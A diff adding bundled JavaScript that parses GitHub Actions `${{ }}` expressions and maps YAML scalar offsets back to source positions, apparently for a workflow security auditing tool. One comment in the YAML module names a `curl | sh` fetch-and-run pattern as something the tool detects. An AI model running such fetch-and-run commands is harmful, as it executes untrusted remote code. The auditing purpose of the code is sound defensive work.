+            func: x
+        }))) {
+            this.extFuncs.set(name.toLowerCase(), func);
+        }
+        this.context = {
+            allowUnknownKeywords: false,
+            extensionContexts: this.extContexts,
+            extensionFunctions: this.extFuncs
+        };
+    }
+    parse() {
+        // eslint-disable-next-line prefer-const
+        let result;
+        // No tokens
+        if (this.atEnd()) {
+            return result;
+        }
+        result = this.expression();
+        if (!this.atEnd()) {
+            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+        }
+        return result;
+    }
+    expression() {
+        this.incrDepth();
+        try {
+            return this.logicalOr();
+        }
+        finally {
+            this.decrDepth();
+        }
+    }
+    logicalOr() {
+        // && is higher precedence than ||
+        let expr = this.logicalAnd();
+        if (this.check(lexer_TokenType.OR)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.OR)) {
+                    const right = this.logicalAnd();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    logicalAnd() {
+        // == and != are higher precedence than &&
+        let expr = this.equality();
+        if (this.check(lexer_TokenType.AND)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.AND)) {
+                    const right = this.equality();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    equality() {
+        // >, >=, <, <= are higher precedence than == and !=
+        let expr = this.comparison();
+        while (this.match(lexer_TokenType.BANG_EQUAL, lexer_TokenType.EQUAL_EQUAL)) {
+            const operator = this.previous();
+            const right = this.comparison();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    comparison() {
+        // ! is higher precedence than >, >=, <, <=
+        let expr = this.unary();
+        while (this.match(lexer_TokenType.GREATER, lexer_TokenType.GREATER_EQUAL, lexer_TokenType.LESS, lexer_TokenType.LESS_EQUAL)) {
+            const operator = this.previous();
+            const right = this.unary();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    unary() {
+        if (this.match(lexer_TokenType.BANG)) {
+            // Track depth
+            this.incrDepth();
+            const operator = this.previous();
+            const unary = this.unary();
+            try {
+                return new Unary(operator, unary);
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return this.index();
+    }
+    index() {
+        let expr = this.call();
+        let depthIncreased = 0;
+        if (expr instanceof Grouping || expr instanceof FunctionCall || expr instanceof ContextAccess) {
+            let cont = true;
+            while (cont) {
+                switch (true) {
+                    case this.match(lexer_TokenType.LEFT_BRACKET): {
+                        let indexExpr;
+                        if (this.match(lexer_TokenType.STAR)) {
+                            indexExpr = new ast_Star();
+                        }
+                        else {
+                            indexExpr = this.expression();
+                        }
+                        this.consume(lexer_TokenType.RIGHT_BRACKET, ErrorType.ErrorUnexpectedSymbol);
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        expr = new IndexAccess(expr, indexExpr);
+                        break;
+                    }
+                    case this.match(lexer_TokenType.DOT):
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        if (this.match(lexer_TokenType.IDENTIFIER)) {
+                            const property = this.previous();
+                            expr = new IndexAccess(expr, new Literal(new StringData(property.lexeme), property));
+                        }
+                        else if (this.match(lexer_TokenType.STAR)) {
+                            expr = new IndexAccess(expr, new ast_Star());
+                        }
+                        else {
+                            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+                        }
+                        break;
+                    default:
+                        cont = false;
+                }
+            }
+        }
+        for (let i = 0; i < depthIncreased; i++) {
+            this.decrDepth();
+        }
+        return expr;
+    }
+    call() {
+        if (!this.check(lexer_TokenType.IDENTIFIER)) {
+            return this.primary();
+        }
+        const identifier = this.next();
+        if (!this.match(lexer_TokenType.LEFT_PAREN)) {
+            if (!this.extContexts.has(identifier.lexeme.toLowerCase())) {
+                throw this.buildError(ErrorType.ErrorUnrecognizedContext, identifier);
+            }
+            return new ContextAccess(identifier);
+        }
+        // Function call
+        const args = [];
+        // Arguments
+        while (!this.match(lexer_TokenType.RIGHT_PAREN)) {
+            const aexp = this.expression();
+            args.push(aexp);
+            if (!this.check(lexer_TokenType.RIGHT_PAREN)) {
+                this.consume(lexer_TokenType.COMMA, ErrorType.ErrorUnexpectedSymbol);
+            }
+        }
+        validateFunction(this.context, identifier, args.length);
+        return new FunctionCall(identifier, args);
+    }
+    primary() {
+        switch (true) {
+            case this.match(lexer_TokenType.FALSE):
+                return new Literal(new BooleanData(false), this.previous());
+            case this.match(lexer_TokenType.TRUE):
+                return new Literal(new BooleanData(true), this.previous());
+            case this.match(lexer_TokenType.NULL):
+                return new Literal(new Null(), this.previous());
+            case this.match(lexer_TokenType.NUMBER):
+                return new Literal(new NumberData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.STRING):
+                return new Literal(new StringData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.LEFT_PAREN): {
+                const expr = this.expression();
+                if (this.atEnd()) {
+                    throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+                }
+                this.consume(lexer_TokenType.RIGHT_PAREN, ErrorType.ErrorUnexpectedSymbol);
+                return new Grouping(expr);
+            }
+            case this.atEnd():
+                throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+        }
+        throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+    }
+    // match consumes the next token if it matches any of the given types
+    match(...tokenTypes) {
+        for (const tokenType of tokenTypes) {
+            if (this.check(tokenType)) {
+                this.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    // check peeks whether the next token is of the given type
+    check(tokenType) {
+        if (this.atEnd()) {
+            return false;
+        }
+        return this.peek().type == tokenType;
+    }
+    // atEnd peeks whether the next token is EOF
+    atEnd() {
+        return this.peek().type == lexer_TokenType.EOF;
+    }
+    next() {
+        if (!this.atEnd()) {
+            this.offset++;
+        }
+        return this.previous();
+    }
+    peek() {
+        return this.tokens[this.offset];
+    }
+    // previous returns the previous token
+    previous() {
+        return this.tokens[this.offset - 1];
+    }
+    // consume attempts to consume the next token if it matches the given type. It returns an error of
+    // the given ParseErrorKind otherwise.
+    consume(tokenType, errorType) {
+        if (this.check(tokenType)) {
+            this.next();
+            return;
+        }
+        throw this.buildError(errorType, this.peek());
+    }
+    incrDepth() {
+        this.depth++;
+        if (this.depth > MAX_PARSER_DEPTH) {
+            throw this.buildError(ErrorType.ErrorExceededMaxDepth, this.peek());
+        }
+    }
+    decrDepth() {
+        this.depth--;
+    }
+    buildError(errType, token) {
+        return new ExpressionError(errType, token);
+    }
+}
+//# sourceMappingURL=parser.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion.js
+
+
+
+
+
+
+/**
+ * Complete returns a list of completion items for the given expression.
+ * The main functionality is auto-completing functions and context access:
+ * We can only provide assistance if the input is in one of the following forms (with | denoting the cursor position):
+ * - context.path.inp| or context.path['inp| -- auto-complete context access
+ * - context.path.| or context.path['| -- auto-complete context access
+ * - toJS| -- auto-complete function call or top-level
+ * - | -- auto-complete function call or top-level context access
+ *
+ * @param input Input expression
+ * @param context Context available for the expression
+ * @param extensionFunctions List of functions available
+ * @param functions Optional map of functions to use during evaluation
+ * @param featureFlags Optional feature flags to control which features are enabled
+ * @returns Array of completion items
+ */
+function complete(input, context, extensionFunctions, functions, featureFlags) {
+    // Lex
+    const lexer = new Lexer(input);
+    const lexResult = lexer.lex();
+    // Find interesting part of the tokenVector. For example, for an expression like `github.actor == env.actor.log|`, we are
+    // only interested in the `env.actor.log` part for auto-completion
+    const tokenInputVector = trimTokenVector(lexResult.tokens);
+    // Start by skipping the EOF token
+    let tokenIdx = tokenInputVector.length - 2;
+    if (tokenIdx >= 0) {
+        switch (tokenInputVector[tokenIdx].type) {
+            // If there is a (partial) identifier under the cursor, ignore that
+            case TokenType.IDENTIFIER:
+                tokenIdx--;
+                break;
+            case TokenType.STRING:
+                // TODO: Support string for `context.name['test|`
+                return [];
+        }
+    }
+    if (tokenIdx < 0) {
+        // Vector only contains the EOF token. Suggest functions and root context access
+        const result = contextKeys(context);
+        // Merge with functions
+        result.push(...functionItems(extensionFunctions, featureFlags));
+        return result;
+    }
+    // Determine path that led to the last token
+    // Use parser & evaluator to determine context to complete.
+    const pathTokenVector = tokenInputVector.slice(0, tokenIdx);
+    // Include the original EOF token to make the parser happy
+    pathTokenVector.push(tokenInputVector[tokenInputVector.length - 1]);
+    const p = new Parser(pathTokenVector, context.pairs().map(x => x.key), extensionFunctions);
+    const expr = p.parse();
+    const ev = new Evaluator(expr, context, functions);
+    const result = ev.evaluate();
+    return contextKeys(result);
+}
+function functionItems(extensionFunctions, featureFlags) {
+    const result = [];
+    const flags = featureFlags ?? new FeatureFlags();
+    for (const fdef of [...Object.values(wellKnownFunctions), ...extensionFunctions]) {
+        // Filter out case function if feature is disabled
+        if (fdef.name === "case" && !flags.isEnabled("allowCaseFunction")) {
+            continue;
+        }
+        result.push({
+            label: fdef.name,
+            description: fdef.description,
+            function: true
+        });
+    }
+    // Sort functions
+    result.sort((a, b) => a.label.localeCompare(b.label));
+    return result;
+}
+function contextKeys(context) {
+    if (isDictionary(context)) {
+        return (context
+            .pairs()
+            .map(x => completionItemFromContext(x))
+            // Sort contexts
+            .sort((a, b) => a.label.localeCompare(b.label)));
+    }
+    return [];
+}
+function completionItemFromContext(pair) {
+    const context = pair.key.toString();
+    const parenIndex = context.indexOf("(");
+    const isFunc = parenIndex >= 0 && context.indexOf(")") >= 0;
+    return {
+        label: isFunc ? context.substring(0, parenIndex) : context,
+        description: pair.description,
+        function: isFunc
+    };
+}
+function trimTokenVector(tokenVector) {
+    let tokenIdx = tokenVector.length;
+    let openParen = 0;
+    while (tokenIdx > 0) {
+        const token = tokenVector[tokenIdx - 1];
+        switch (token.type) {
+            case TokenType.LEFT_PAREN:
+                if (openParen == 0) {
+                    // Encountered an open parenthesis without a closing first, stop here
+                    break;
+                }
+                openParen--;
+                tokenIdx--;
+                continue;
+            case TokenType.RIGHT_PAREN:
+                openParen++;
+                tokenIdx--;
+                continue;
+            case TokenType.IDENTIFIER:
+            case TokenType.DOT:
+            case TokenType.EOF:
+            case TokenType.LEFT_BRACKET:
+            case TokenType.RIGHT_BRACKET:
+            case TokenType.STRING:
+                tokenIdx--;
+                continue;
+        }
+        break;
+    }
+    // Only keep the part of the token vector we're interested in
+    return tokenVector.slice(tokenIdx);
+}
+//# sourceMappingURL=completion.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion/descriptionDictionary.js
+
+
+function isDescriptionDictionary(x) {
+    return x.kind === Kind.Dictionary && x instanceof DescriptionDictionary;
+}
+class DescriptionDictionary extends Dictionary {
+    constructor(...pairs) {
+        super();
+        this.descriptions = new Map();
+        this.complete = true;
+        for (const p of pairs) {
+            this.add(p.key, p.value, p.description);
+        }
+    }
+    add(key, value, description) {
+        if (this.get(key) !== undefined) {
+            // Key already added, ignore
+            return;
+        }
+        super.add(key, value);
+        if (description) {
+            this.descriptions.set(key, description);
+        }
+    }
+    pairs() {
+        const pairs = super.pairs();
+        return pairs.map(p => ({ ...p, description: this.descriptions.get(p.key) }));
+    }
+    getDescription(key) {
+        return this.descriptions.get(key);
+    }
+}
+//# sourceMappingURL=descriptionDictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/index.js
+
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./lib/core/parsers/expression.js
+
+
+/** Context names the runner knows; any other leading name is a syntax error on GitHub too. */
+const CONTEXTS = [
+    'github',
+    'env',
+    'vars',
+    'job',
+    'jobs',
+    'steps',
+    'runner',
+    'secrets',
+    'strategy',
+    'matrix',
+    'needs',
+    'inputs',
+];
+/** Functions the runner adds on top of the library's built-ins (status checks, hashFiles). */
+const EXTRA_FUNCTIONS = [
+    { name: 'success', minArgs: 0, maxArgs: 0 },
+    { name: 'always', minArgs: 0, maxArgs: 0 },
+    { name: 'cancelled', minArgs: 0, maxArgs: 0 },
+    { name: 'failure', minArgs: 0, maxArgs: 0 },
+    { name: 'hashFiles', minArgs: 1, maxArgs: 255 },
+];
+/**
+ * Finds every `${{ ... }}` in `text` the way the runner does: an expression ends at the first `}}`
+ * outside a single-quoted string literal. An unclosed `${{` ends the scan (GitHub rejects the value).
+ * Linear in the length of the text.
+ */
+function findExpressions(text) {
+    const out = [];
+    let start = text.indexOf('${{');
+    while (start !== -1) {
+        let inString = false;
+        let end = -1;
+        for (let i = start + 3; i < text.length; i++) {
+            const ch = text[i];
+            if (ch === "'")
+                inString = !inString;
+            else if (!inString && ch === '}' && text[i - 1] === '}' && i - 1 >= start + 3) {
+                end = i + 1;
+                break;
+            }
+        }
+        if (end === -1)
+            break;
+        out.push({ start, end, inner: text.slice(start + 3, end - 2), innerStart: start + 3 });
+        start = text.indexOf('${{', end);
+    }
+    return out;
+}
+/**
+ * Parsed trees by expression text. Workflows repeat the same expressions (`${{ github.sha }}`,
+ * `${{ matrix.os }}`) across files, and the trees are immutable data, so they are shared; the cache is
+ * bounded so that hostile input cannot grow it without limit.
+ */
+const CACHE = new Map();
+const CACHE_LIMIT = 20_000;
+/** Parses the text of one expression; never throws. An empty expression parses to undefined. */
+function parseExpression(inner) {
+    const cached = CACHE.get(inner);
+    if (cached)
+        return cached;
+    const result = parseUncached(inner);
+    if (CACHE.size >= CACHE_LIMIT)
+        CACHE.clear();
+    CACHE.set(inner, result);
+    return result;
+}
+function parseUncached(inner) {
+    try {
+        const tokens = new lexer_Lexer(inner).lex().tokens;
+        const ast = new parser_Parser(tokens, CONTEXTS, EXTRA_FUNCTIONS).parse();
+        if (!ast)
+            return { ok: true, node: undefined };
+        return { ok: true, node: new Converter(inner).convert(ast) };
+    }
+    catch (err) {
+        return { ok: false, error: err instanceof Error ? err.message : String(err) };
+    }
+}
+/** Every context reference in a tree, outermost first (computed indexes included). */
+function references(node) {
+    const out = [];
+    const visit = (n) => {
+        switch (n.kind) {
+            case 'ref':
+                out.push(n);
+                n.computed.forEach(visit);
+                break;
+            case 'call':
+            case 'and':
+            case 'or':
+                n.args.forEach(visit);
+                break;
+            case 'not':
+                visit(n.arg);
+                break;
+            case 'compare':
+                visit(n.left);
+                visit(n.right);
+                break;
+            case 'index':
+                visit(n.target);
+                n.computed.forEach(visit);
+                break;
+            case 'literal':
+                break;
+        }
+    };
+    if (node)
+        visit(node);
+    return out;
+}
+/** Dotted form of a path (`github.event.pull_request.labels.*.name`). */
+function pathText(path) {
+    return path.join('.');
+}
+/** Converts the library's tree, turning its line/column token ranges into offsets. */
+class Converter {
+    text;
+    lineStarts = [0];
+    constructor(text) {
+        this.text = text;
+        for (let i = 0; i < text.length; i++)
+            if (text[i] === '\n')
+                this.lineStarts.push(i + 1);
+    }
+    convert(e) {
+        if (e instanceof Literal) {
+            const value = e.literal.primitive ? e.literal.value : null;
+            return {
+                kind: 'literal',
+                value: value === undefined ? null : value,
+                ...this.tokenSpan(e.token),
+            };
+        }
+        if (e instanceof Grouping)
+            return this.convert(e.group);
+        if (e instanceof Unary) {
+            const arg = this.convert(e.expr);
+            return { kind: 'not', arg, start: this.offset(e.operator.range.start), end: arg.end };
+        }
+        if (e instanceof Binary) {
+            const left = this.convert(e.left);
+            const right = this.convert(e.right);
+            return { kind: 'compare', left, right, start: left.start, end: right.end };
+        }
+        if (e instanceof Logical) {
+            const args = e.args.map((a) => this.convert(a));
+            const kind = e.operator.lexeme === '&&' ? 'and' : 'or';
+            return { kind, args, start: args[0]?.start ?? 0, end: args[args.length - 1]?.end ?? 0 };
+        }
+        if (e instanceof FunctionCall) {
+            const args = e.args.map((a) => this.convert(a));
+            const span = this.tokenSpan(e.functionName);
+            const close = this.text.indexOf(')', args[args.length - 1]?.end ?? span.end);
+            return {
+                kind: 'call',
+                name: e.functionName.lexeme.toLowerCase(),
+                args,
+                start: span.start,
+                end: close === -1 ? span.end : close + 1,
+            };
+        }
+        if (e instanceof ContextAccess) {
+            return { kind: 'ref', path: [e.name.lexeme.toLowerCase()], computed: [], ...this.tokenSpan(e.name) };
+        }
+        if (e instanceof IndexAccess)
+            return this.index(e);
+        // Star only appears as an index, handled there.
+        return { kind: 'literal', value: null, start: 0, end: 0 };
+    }
+    index(e) {
+        const target = this.convert(e.expr);
+        let key = '*';
+        const computed = [];
+        // A numeric index picks one element and a computed one any key: both are classified as "some
+        // element", but unlike a filter they yield a single value.
+        let end;
+        if (e.index instanceof ast_Star) {
+            end = this.after(target.end, '*');
+        }
+        else if (e.index instanceof Literal) {
+            const v = e.index.literal.value;
+            key = typeof v === 'string' ? v.toLowerCase() : '#';
+            end = this.tokenSpan(e.index.token).end;
+            if (this.text[this.skipSpace(end)] === ']')
+                end = this.skipSpace(end) + 1;
+        }
+        else {
+            const idx = this.convert(e.index);
+            computed.push(idx);
+            key = '?';
+            const close = this.text.indexOf(']', idx.end);
+            end = close === -1 ? idx.end : close + 1;
+        }
+        if (target.kind === 'ref') {
+            return { ...target, path: [...target.path, key], computed: [...target.computed, ...computed], end };
+        }
+        return { kind: 'index', target, key, computed, start: target.start, end };
+    }
+    /** The offset just past `ch` (and a closing `]`) after `from`, for indexes that have no token. */
+    after(from, ch) {
+        const at = this.text.indexOf(ch, from);
+        if (at === -1)
+            return from;
+        const next = this.skipSpace(at + 1);
+        return this.text[next] === ']' ? next + 1 : at + 1;
+    }
+    skipSpace(i) {
+        while (i < this.text.length && /\s/.test(this.text[i]))
+            i++;
+        return i;
+    }
+    tokenSpan(token) {
+        return { start: this.offset(token.range.start), end: this.offset(token.range.end) };
+    }
+    offset(pos) {
+        const base = this.lineStarts[pos.line] ?? 0;
+        return Math.min(this.text.length, base + pos.column);
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/parsers/yaml-scalar.js
+/**
+ * Maps offsets inside a decoded YAML string scalar back to the source text, so that something found
+ * inside a value (a `${{ }}` expression in a `run: |` block, a `curl | sh` in a folded script) is
+ * reported at its own line and column rather than at the start of the value.
+ *
+ * The position index (workspace/yaml.ts) gives each scalar's source range but not its style, and
+ * decoding differs per style (indentation, line folding, quote and backslash escapes). So the style is
+ * read from the source around the range, the scalar is re-decoded here while recording where each
+ * character came from, and the result is only trusted when it equals the value js-yaml decoded. When it
+ * does not (an unusual indentation indicator, a value reached through an alias or merge key), every
+ * offset maps to the scalar's start and `exact` is false: still the right value, at a coarser place.
+ */
+/**
+ * Maps the decoded `value` of the scalar whose source range is [start, end) in `source` (the range
+ * the YAML parser reports: the text between quotes, or the lines of a block scalar).
+ */
+function mapScalar(source, start, end, value) {
+    for (const decoded of decode(source, start, end)) {
+        if (!sameContent(decoded.text, value))
+            continue;
+        const { map } = decoded;
+        return { exact: true, offset: (i) => (i >= 0 && i < map.length ? map[i] : end) };
+    }
+    return { exact: false, offset: () => start };
+}
+/** Candidate decodings of the range, by the style its surroundings show. */
+function decode(source, start, end) {
+    if (start < 0 || end > source.length || start > end)
+        return [];
+    const before = source[start - 1];
+    if (before === '"')
+        return [decodeFlow(source, start, end, 'double')];
+    if (before === "'")
+        return [decodeFlow(source, start, end, 'single')];
+    if (start === 0 || before === '\n') {
+        const header = yaml_scalar_blockHeader(source, start);
+        if (header)
+            return decodeBlock(source, start, end, header);
+    }
+    return [decodeFlow(source, start, end, 'plain')];
+}
+/** Block scalars keep or drop trailing line breaks by their chomping indicator; content is the rest. */
+function sameContent(a, b) {
+    return a.replace(/\n+$/, '') === b.replace(/\n+$/, '');
+}
+/** The `|` / `>` header on the last non-blank line before a block scalar's content. */
+function yaml_scalar_blockHeader(source, start) {
+    let lineEnd = start - 1;
+    while (lineEnd > 0) {
+        const lineStart = source.lastIndexOf('\n', lineEnd - 1) + 1;
+        const line = source.slice(lineStart, lineEnd).replace(/\r$/, '');
+        if (line.trim() !== '') {
+            const m = /(?:^|[\s:?-])([|>])([1-9][+-]?|[+-][1-9]?)?[ \t]*(?:#.*)?$/.exec(line);
+            if (!m)
+                return undefined;
+            return { folded: m[1] === '>', explicitIndent: /[1-9]/.test(m[2] ?? '') };
+        }
+        lineEnd = lineStart - 1;
+    }
+    return undefined;
+}
+function splitLines(source, start, end) {
+    const lines = [];
+    let at = start;
+    while (at < end) {
+        let nl = source.indexOf('\n', at);
+        if (nl === -1 || nl >= end)
+            nl = end;
+        const stop = nl > at && source[nl - 1] === '\r' ? nl - 1 : nl;
+        lines.push({ start: at, end: stop });
+        at = nl + 1;
+    }
+    return lines;
+}
+function decodeBlock(source, start, end, header) {
+    const lines = splitLines(source, start, end);
+    const first = lines.find((l) => source.slice(l.start, l.end).trim() !== '');
+    if (!first)
+        return [{ text: '', map: [] }];
+    const auto = indentOf(source, first);
+    // An explicit indentation indicator counts from the parent's indentation, which is not known here:
+    // try every indentation up to the detected one; the caller keeps the decoding that matches.
+    const candidates = header.explicitIndent ? Array.from({ length: auto + 1 }, (_, i) => auto - i) : [auto];
+    return candidates.map((indent) => header.folded ? folded(source, lines, indent) : literal(source, lines, indent));
+}
+function indentOf(source, line) {
+    let i = line.start;
+    while (i < line.end && source[i] === ' ')
+        i++;
+    return i - line.start;
+}
+function literal(source, lines, indent) {
+    const text = [];
+    const map = [];
+    for (const line of lines) {
+        for (let i = Math.min(line.start + indent, line.end); i < line.end; i++) {
+            text.push(source[i]);
+            map.push(i);
+        }
+        text.push('\n');
+        map.push(line.end);
+    }
+    return { text: text.join(''), map };
+}
+/** Folded block: single breaks between normal lines become spaces; more-indented lines keep theirs. */
+function folded(source, lines, indent) {
+    const text = [];
+    const map = [];
+    const content = lines.map((l) => ({ ...l, from: Math.min(l.start + indent, l.end) }));
+    const isEmpty = (l) => l.from >= l.end;
+    const moreIndented = (l) => source[l.from] === ' ' || source[l.from] === '\t';
+    let i = 0;
+    // Leading empty lines are kept as line breaks.
+    while (i < content.length && isEmpty(content[i])) {
+        text.push('\n');
+        map.push(content[i].end);
+        i++;
+    }
+    while (i < content.length) {
+        const line = content[i];
+        for (let k = line.from; k < line.end; k++) {
+            text.push(source[k]);
+            map.push(k);
+        }
+        let j = i + 1;
+        while (j < content.length && isEmpty(content[j]))
+            j++;
+        const breaks = [line.end, ...content.slice(i + 1, j).map((l) => l.end)];
+        if (j >= content.length) {
+            text.push('\n');
+            map.push(line.end);
+            break;
+        }
+        const keep = moreIndented(line) || moreIndented(content[j]);
+        if (breaks.length === 1 && !keep) {
+            text.push(' ');
+            map.push(line.end);
+        }
+        else {
+            for (const b of keep ? breaks : breaks.slice(1)) {
+                text.push('\n');
+                map.push(b);
+            }
+        }
+        i = j;
+    }
+    return { text: text.join(''), map };
+}
+const SIMPLE_ESCAPES = {
+    '0': '\0',
+    a: '\x07',
+    b: '\b',
+    t: '\t',
+    '\t': '\t',
+    n: '\n',
+    v: '\v',
+    f: '\f',
+    r: '\r',
+    e: '\x1b',
+    ' ': ' ',
+    '"': '"',
+    '/': '/',
+    '\\': '\\',
+    N: '\u0085',
+    _: '\u00a0',
+    L: '\u2028',
+    P: '\u2029',
+};
+const HEX_LENGTH = { x: 2, u: 4, U: 8 };
+/**
+ * Plain and quoted scalars: line breaks fold to a space (or to n-1 newlines for n breaks), leading and
+ * trailing blanks around a break are dropped, `''` is a quote in single-quoted scalars, and
+ * double-quoted scalars have backslash escapes (an escaped line break joins the lines).
+ */
+function decodeFlow(source, start, end, style) {
+    const text = [];
+    const map = [];
+    // Blanks emitted after this output index may be trimmed before a break (escaped blanks may not).
+    let keepUpTo = 0;
+    let i = start;
+    while (i < end) {
+        const ch = source[i];
+        if (ch === '\n' || (ch === '\r' && source[i + 1] === '\n')) {
+            while (text.length > keepUpTo && (text[text.length - 1] === ' ' || text[text.length - 1] === '\t')) {
+                text.pop();
+                map.pop();
+            }
+            const breaks = [];
+            let j = i;
+            for (;;) {
+                breaks.push(j);
+                j = source[j] === '\r' ? j + 2 : j + 1;
+                while (j < end && (source[j] === ' ' || source[j] === '\t'))
+                    j++;
+                if (j < end && (source[j] === '\n' || (source[j] === '\r' && source[j + 1] === '\n')))
+                    continue;
+                break;
+            }
+            if (breaks.length === 1) {
+                text.push(' ');
+                map.push(i);
+            }
+            else {
+                for (const b of breaks.slice(1)) {
+                    text.push('\n');
+                    map.push(b);
+                }
+            }
+            keepUpTo = text.length;
+            i = j;
+            continue;
+        }
+        if (style === 'single' && ch === "'" && source[i + 1] === "'") {
+            text.push("'");
+            map.push(i);
+            i += 2;
+            continue;
+        }
+        if (style === 'double' && ch === '\\') {
+            const next = source[i + 1] ?? '';
+            if (next === '\n' || (next === '\r' && source[i + 2] === '\n')) {
+                // An escaped line break: the lines join with nothing between them.
+                let j = i + (next === '\r' ? 3 : 2);
+                while (j < end && (source[j] === ' ' || source[j] === '\t'))
+                    j++;
+                keepUpTo = text.length;
+                i = j;
+                continue;
+            }
+            const simple = SIMPLE_ESCAPES[next];
+            if (simple !== undefined) {
+                text.push(simple);
+                map.push(i);
+                keepUpTo = text.length;
+                i += 2;
+                continue;
+            }
+            const width = HEX_LENGTH[next];
+            if (width) {
+                const code = Number.parseInt(source.slice(i + 2, i + 2 + width), 16);
+                if (Number.isNaN(code))
+                    return { text: '', map: [] };
+                for (const unit of String.fromCodePoint(code)) {
+                    for (let k = 0; k < unit.length; k++) {
+                        text.push(unit[k]);
+                        map.push(i);
+                    }
+                }
+                keepUpTo = text.length;
+                i += 2 + width;
+                continue;
+            }
+        }
+        text.push(ch);
+        map.push(i);
+        i++;
+    }
+    return { text: text.join(''), map };
+}
+
+;// CONCATENATED MODULE: ./lib/core/parsers/workflow-expressions.js
+
+
+
+
+/**
+ * Positions inside a string value (`run:` scripts, `with:` inputs): offsets in the decoded value are
+ * mapped back through the scalar's quoting, escapes, indentation and folding to the file.
+ */
+function locatedText(workspace, path, node) {
+    const content = workspace.read(path);
+    const value = node.value;
+    const fallback = () => ({
+        value,
+        exact: false,
+        locate: () => locationFromSpan(path, node.span),
+    });
+    if (content.kind !== 'text' || value === '')
+        return fallback();
+    const [start, end] = spanOffsets(content.lines, node.span);
+    const map = mapScalar(content.text, start, end, value);
+    if (!map.exact) {
+        const at = locationFromOffsets(path, content.lines, start, start + 1);
+        return { value, exact: false, locate: () => ({ ...at }) };
+    }
+    const lines = content.lines;
+    return {
+        value,
+        exact: true,
+        locate(from, to) {
+            const s = map.offset(from);
+            const e = to > from ? map.offset(to - 1) + 1 : s + 1;
+            return locationFromOffsets(path, lines, s, Math.max(e, s + 1));
+        },
+    };
+}
+/** Source offsets [start, end) of a node from its span (the end position is inclusive). */
+function spanOffsets(lines, span) {
+    const start = lines.lineStart(span.start.line) + span.start.column - 1;
+    const end = lines.lineStart(span.end.line) + span.end.column;
+    return [start, Math.max(start, end)];
+}
+/**
+ * Every `${{ }}` expression in the string values of a workflow or action file, parsed and located,
+ * in document order. Mapping keys are not scanned (GitHub does not evaluate them). Computed once per
+ * file and shared by every audit through `workspace.memo`.
+ */
+function workflowExpressions(workspace, source) {
+    return workspace.memo('workflow-expressions', source.path, () => collect(workspace, source));
+}
+function collect(workspace, source) {
+    const out = [];
+    const doc = source.document;
+    const visit = (value, pointer, depth) => {
+        if (depth > 64)
+            return;
+        if (typeof value === 'string') {
+            if (!value.includes('${{'))
+                return;
+            const span = doc.span(pointer) ?? doc.nearestSpan(pointer);
+            if (!span)
+                return;
+            const text = locatedText(workspace, source.path, { value, pointer, span });
+            for (const found of findExpressions(value)) {
+                const inner = found.inner;
+                const innerStart = found.innerStart;
+                out.push({
+                    pointer,
+                    ...owner(source, pointer),
+                    raw: value.slice(found.start, found.end),
+                    inner,
+                    start: found.start,
+                    innerStart,
+                    parsed: parseExpression(inner),
+                    location: text.locate(found.start, found.end),
+                    exact: text.exact,
+                    locate: (from, to) => text.locate(innerStart + from, innerStart + to),
+                });
+            }
+            return;
+        }
+        if (Array.isArray(value)) {
+            for (const [i, item] of value.entries())
+                visit(item, `${pointer}/${i}`, depth + 1);
+        }
+        else if (value !== null && typeof value === 'object') {
+            for (const [k, v] of Object.entries(value))
+                visit(v, `${pointer}/${escapePointerToken(k)}`, depth + 1);
+        }
+    };
+    visit(doc.value, '', 0);
+    return out;
+}
+/** Which job and step a pointer is under, and the remaining tokens. */
+function owner(source, pointer) {
+    const tokens = pointer
+        .split('/')
+        .slice(1)
+        .map((t) => t.replace(/~1/g, '/').replace(/~0/g, '~'));
+    let rest = tokens;
+    const out = { field: [] };
+    if (source.kind === 'workflow') {
+        if (rest[0] !== 'jobs' || rest[1] === undefined)
+            return { field: tokens };
+        out.jobId = rest[1];
+        rest = rest.slice(2);
+    }
+    else if (rest[0] === 'runs') {
+        rest = rest.slice(1);
+    }
+    else {
+        return { field: tokens };
+    }
+    if (rest[0] === 'steps' && rest[1] !== undefined && /^\d+$/.test(rest[1])) {
+        out.stepIndex = Number(rest[1]);
+        rest = rest.slice(2);
+    }
+    out.field = rest;
+    return out;
+}
+/** The expressions of one string value (by its pointer), from the per-file index. */
+function expressionsAt(workspace, source, pointer) {
+    const byPointer = workspace.memo('workflow-expressions-by-pointer', source.path, () => {
+        const map = new Map();
+        for (const e of workflowExpressions(workspace, source)) {
+            const list = map.get(e.pointer);
+            if (list)
+                list.push(e);
+            else
+                map.set(e.pointer, [e]);
+        }
+        return map;
+    });
+    return byPointer.get(pointer) ?? [];
+}
+/** The expressions under a pointer (the value itself and everything below it). */
+function expressionsUnder(workspace, source, pointer) {
+    return workflowExpressions(workspace, source).filter((e) => e.pointer === pointer || e.pointer.startsWith(`${pointer}/`));
+}
+
